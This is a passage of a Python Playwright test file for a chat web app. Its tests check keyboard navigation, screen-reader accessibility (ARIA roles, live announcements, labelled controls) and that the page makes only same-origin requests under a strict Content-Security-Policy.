        "temperature",
        "seed",
        "reset",
    ]
    assert [where for where in seen if where in order] == order
    v.find("#input").focus()
    v.page.keyboard.type("count")
    v.page.keyboard.press("Enter")
    v.find(".prose:has-text('word5')").wait_for()
    v.page.keyboard.press("Escape")
    v.wait()
    v.page.keyboard.press("Control+Shift+O")
    assert messages(v) == [] and v.page.evaluate("document.activeElement.id") == "input"
    v.page.keyboard.type("sum")
    v.page.keyboard.press("Enter")
    v.find("button:text-is('Regenerate')").wait_for()
    v.find("summary").focus()
    v.page.keyboard.press("Enter")
    assert v.find(".step pre").first.is_visible()


def test_a_screen_reader_finds_its_way(visit):
    v = visit()
    v.find("#model option").first.wait_for(state="attached")
    v.page.evaluate(
        "window.said = []; new MutationObserver(() =>"
        " said.push(document.querySelector('#announce').textContent)).observe(document.querySelector('#announce'),"
        " {childList: true})"
    )
    v.ask("sum")
    for role in ("banner", "main", "complementary"):
        assert v.page.get_by_role(role).count() == 1
    assert {nav.get_attribute("aria-label") for nav in v.page.get_by_role("navigation").all()} == {"Views", "Chats"}
    # once, when it is whole
    assert v.page.evaluate("window.said") == ["Reply of ada: I will calculate. The sum is **95**."]
    unnamed = (
        "[...document.querySelectorAll('button, input, select, textarea, a')].filter((e) => !(e.ariaLabel ||"
        " e.labels?.length || e.textContent.trim())).map((e) => e.outerHTML)"
    )
    assert v.page.evaluate(unnamed) == []
    assert v.find("#notice").get_attribute("role") == "alert" and v.find("html").get_attribute("lang") == "en"


def test_nothing_is_asked_of_another_machine(visit, site):
    v = visit()
    v.ask("hello")
    assert all(request.url.startswith(site.url) for request in v.requests)
    policy = v.requests[0].response().headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    assert json.loads(v.requests[-1].post_data)["stream"] is True
